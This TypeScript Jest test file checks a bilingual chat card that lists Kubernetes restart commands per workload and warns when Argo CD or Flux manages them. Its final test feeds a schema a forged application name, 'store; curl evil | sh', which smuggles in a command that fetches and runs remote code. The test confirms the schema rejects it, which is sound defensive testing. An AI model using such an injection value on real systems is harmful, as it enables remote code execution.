import { describe, expect, test } from '@jest/globals'
import { PLACE } from '../../../test/gallery/card-entries.ts'
import { keptSample } from '../../../test/support/kept-samples.ts'
import { look } from '../../../test/support/sample-size.ts'
import { cardFacts, type TeamFacts } from '../../wire/card-facts.ts'
import { teamCard } from './team-card.ts'
import { commandBlocks } from './team-commands.ts'

const LOCALES = ['en', 'zh'] as const

const COMMANDS = [
  'argocd app actions run store restart --group apps --kind Deployment --namespace pay --resource-name web',
  'kubectl rollout restart deployment/ledger -n pay --field-manager=flux-client-side-apply',
  'kubectl argo rollouts restart cart -n pay',
  'kubectl rollout restart deployment/api -n pay',
]

/** The lines of the block of commands, and everything else that is read. */
function drawn(facts: TeamFacts, locale: 'en' | 'zh') {
  const { blocks } = teamCard(facts, look(locale), PLACE)
  const isCode = (block: unknown) => JSON.stringify(block).includes('rich_text_preformatted')
  const code = JSON.stringify(blocks.filter(isCode))
  return {
    commands: /"text":"(.*?)"/.exec(code)?.[1]?.split('\\n') ?? [],
    rest: JSON.stringify(blocks.filter((block) => !isCode(block))),
  }
}

const onlyOf = (facts: TeamFacts, ...names: string[]): TeamFacts => ({
  ...facts,
  workloads: facts.workloads.filter(({ name }) => names.includes(name)),
})

describe.each(LOCALES)('a reminder, %s', (locale) => {
  const facts = keptSample('usual')

  test('has for each workload the command of the tool that keeps it, and kubectl’s where none does', () => {
    const { commands, rest } = drawn(facts, locale)
    expect(commands).toEqual(COMMANDS)
    expect(rest).toMatch(
      locale === 'en'
        ? /Kept by Argo CD, Flux: a plain `kubectl rollout restart` may be taken back/
        : /由 Argo CD、Flux 管理：普通的 `kubectl rollout restart` 可能会被其撤销/,
    )
  })

  test('says to redeploy through the tool where no command is safe', () => {
    const { commands, rest } = drawn(onlyOf(facts, 'search'), locale)
    expect(commands).toEqual([])
    expect(rest).toMatch(
      locale === 'en'
        ? /StatefulSet pay\/search: redeploy it through Argo CD, which keeps it/
        : /StatefulSet pay\/search：由 Argo CD 管理，请通过 Argo CD 重新发布/,
    )
    expect(rest).not.toContain('rollout restart')
  })

  test('warns of nothing where no tool keeps what has a command', () => {
    expect(drawn(onlyOf(facts, 'api', 'cart'), locale).rest).not.toMatch(/Kept by|管理/)
  })

  test('cuts no command, however long the names are', () => {
    const [one] = keptSample('worst').workloads
    const workloads = Array.from({ length: 5 }, () => one).flatMap((each) => each ?? [])
    const [, code] = commandBlocks({ workloads }, look(locale), { items: 8, chars: 200, prose: 1000 })
    const shown = /"text":"(.*?)"/.exec(JSON.stringify(code))?.[1]?.split('\\n') ?? []
    expect([shown.length, new Set(shown).size]).toEqual([4, 1])
    expect(shown[0]).toMatch(/ --resource-name 0w+$/)
  })
})

test('a card of before, and one of an Application that is no name', () => {
  const facts = onlyOf(keptSample('usual'), 'web')
  const [web] = facts.workloads
  const { keeper: _keeper, ...before } = web ?? {}
  expect(cardFacts.parse({ ...facts, workloads: [before] })).toMatchObject({ workloads: [{ name: 'web' }] })
  const forged = { ...facts, workloads: [{ ...web, keeper: { tool: 'Argo CD', app: 'store; curl evil | sh' } }] }
  expect(cardFacts.safeParse(forged).success).toBe(false)
})
